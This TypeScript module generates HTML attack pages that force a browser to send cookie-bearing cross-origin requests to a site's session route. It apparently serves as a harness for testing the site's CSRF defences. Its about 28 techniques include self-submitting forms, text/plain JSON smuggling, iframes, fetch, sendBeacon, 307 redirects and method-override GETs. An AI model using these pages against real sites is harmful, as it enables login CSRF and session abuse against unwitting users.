/**
 * Ways in which a page of another origin can make a browser send a request
 * with the site's cookies. Each is the HTML of such a page.
 */

export interface Attack {
  sessionUrl: string;
  /** A good token of the attacker's own account, and a challenge that is good in the victim's browser. */
  body: { idToken: string; challenge: string; rememberMe: boolean; redirectTo: string };
  /** An address of the attacker that redirects with status 307 to the session route. */
  redirectUrl: string;
}

export type Technique = (attack: Attack) => string;

const script = (code: string) => `<!doctype html><body><script>${code}</script>`;

/** A script string holding any text. */
const literal = (value: unknown) => JSON.stringify(value).replaceAll("<", "\\u003c");

const attribute = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

function form(attack: Attack, { action = attack.sessionUrl, method = "post", enctype = "", target = "", extra = "" } = {}): string {
  const field = (name: string, value: unknown) =>
    `<input name="${attribute(name)}" value="${attribute(String(value))}">`;
  // In text/plain a field is name=value: the "=" of it hides in a member of the JSON.
  const json = JSON.stringify({ ...attack.body, x: "|" }).split("|");
  const fields =
    enctype === "text/plain"
      ? field(json[0] ?? "", json[1])
      : Object.entries(attack.body).map(([name, value]) => field(name, value)).join("");
  return `<!doctype html>${extra}<form id="f" action="${attribute(action)}" method="${method}" enctype="${enctype}" target="${target}">${fields}</form><script>document.getElementById("f").submit()</script>`;
}

function query({ body }: Attack): string {
  return new URLSearchParams({ ...body, rememberMe: "false", _method: "POST" }).toString();
}

function getUrl(attack: Attack): string {
  return `${attack.sessionUrl}${attack.sessionUrl.includes("?") ? "&" : "?"}${query(attack)}`;
}

function fetchWith(options: string, type?: string): Technique {
  return ({ sessionUrl, body }) =>
    script(
      `fetch(${literal(sessionUrl)}, { method: "POST", credentials: "include", body: ${literal(JSON.stringify(body))},
        ${type === undefined ? "" : `headers: { "content-type": "${type}" },`} ${options} })`,
    );
}

export const techniques: Record<string, Technique> = {
  "a form as text/plain": (attack) => form(attack, { enctype: "text/plain" }),
  "a form, URL-encoded": (attack) => form(attack),
  "a form as multipart": (attack) => form(attack, { enctype: "multipart/form-data" }),
  "a form by GET": (attack) => form(attack, { method: "get" }),
  "a form into a new window": (attack) => form(attack, { enctype: "text/plain", target: "_blank" }),
  "a form into a frame": (attack) =>
    form(attack, { enctype: "text/plain", target: "frame", extra: `<iframe name="frame"></iframe>` }),
  "a form without a referrer": (attack) =>
    form(attack, { enctype: "text/plain", extra: `<meta name="referrer" content="no-referrer">` }),
  "a form redirected by 307": (attack) => form(attack, { action: attack.redirectUrl, enctype: "text/plain" }),
  "a frame that submits itself": (attack) =>
    `<!doctype html><iframe srcdoc="${attribute(form(attack, { enctype: "text/plain" }))}"></iframe>`,
  "a sandboxed frame of no origin": (attack) =>
    `<!doctype html><iframe sandbox="allow-scripts allow-forms" srcdoc="${attribute(form(attack, { enctype: "text/plain" }))}"></iframe>`,
  "a frame with a data: URL": (attack) =>
    `<!doctype html><iframe src="data:text/html,${encodeURIComponent(form(attack, { enctype: "text/plain" }))}"></iframe>`,
  "a frame with a blob: URL": (attack) =>
    script(
      `const frame = document.body.appendChild(document.createElement("iframe"));
      frame.src = URL.createObjectURL(new Blob([${literal(form(attack, { enctype: "text/plain" }))}], { type: "text/html" }));`,
    ),
  "a window opened by script": (attack) =>
    script(`window.open("about:blank", "w"); document.write(${literal(form(attack, { enctype: "text/plain", target: "w" }))});`),
  "fetch without CORS": fetchWith(`mode: "no-cors"`, "text/plain"),
  "fetch without CORS or referrer": fetchWith(`mode: "no-cors", referrerPolicy: "no-referrer"`, "text/plain"),
  "fetch with CORS": fetchWith(`mode: "cors"`, "application/json"),
  "fetch with CORS, no preflight": fetchWith(`mode: "cors"`, "text/plain"),
  "fetch with keepalive from a page that closes": ({ sessionUrl, body }) =>
    script(
      `addEventListener("pagehide", () => fetch(${literal(sessionUrl)}, { method: "POST", mode: "no-cors",
        credentials: "include", keepalive: true, body: ${literal(JSON.stringify(body))} }));
      setTimeout(() => location.replace("about:blank"), 100);`,
    ),
  "fetch redirected by 307": ({ redirectUrl, body }) =>
    script(
      `fetch(${literal(redirectUrl)}, { method: "POST", mode: "no-cors", credentials: "include",
        headers: { "content-type": "text/plain" }, body: ${literal(JSON.stringify(body))} })`,
    ),
  "XMLHttpRequest": ({ sessionUrl, body }) =>
    script(
      `const request = new XMLHttpRequest(); request.open("POST", ${literal(sessionUrl)}); request.withCredentials = true;
      request.setRequestHeader("content-type", "application/json"); request.send(${literal(JSON.stringify(body))});`,
    ),
  "XMLHttpRequest, no preflight": ({ sessionUrl, body }) =>
    script(
      `const request = new XMLHttpRequest(); request.open("POST", ${literal(sessionUrl)}); request.withCredentials = true;
      request.send(${literal(JSON.stringify(body))});`,
    ),
  "sendBeacon": ({ sessionUrl, body }) =>
    script(`navigator.sendBeacon(${literal(sessionUrl)}, ${literal(JSON.stringify(body))});`),
  "sendBeacon as JSON": ({ sessionUrl, body }) =>
    script(
      `navigator.sendBeacon(${literal(sessionUrl)}, new Blob([${literal(JSON.stringify(body))}], { type: "application/json" }));`,
    ),
  "an image, the method overridden": (attack) => `<!doctype html><img src="${attribute(getUrl(attack))}">`,
  "a script, the method overridden": (attack) => `<!doctype html><script src="${attribute(getUrl(attack))}"></script>`,
  "a style sheet, the method overridden": (attack) =>
    `<!doctype html><link rel="stylesheet" href="${attribute(getUrl(attack))}">`,
  "a navigation, the method overridden": (attack) => script(`location.href = ${literal(getUrl(attack))};`),
  "a preloaded resource, the method overridden": (attack) =>
    `<!doctype html><link rel="preload" as="fetch" crossorigin="use-credentials" href="${attribute(getUrl(attack))}">`,
};
